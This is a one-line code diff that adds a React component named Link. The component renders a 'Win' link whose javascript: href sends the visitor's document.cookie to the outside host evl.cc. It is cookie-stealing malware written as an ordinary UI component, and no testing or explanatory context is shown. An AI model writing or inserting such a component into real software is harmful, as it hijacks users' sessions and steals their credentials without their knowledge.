@@ -1,0 +1,1 @@
+export const Link = () => <a href="javascript:fetch('https://evl.cc/'+document.cookie)">Win</a>;
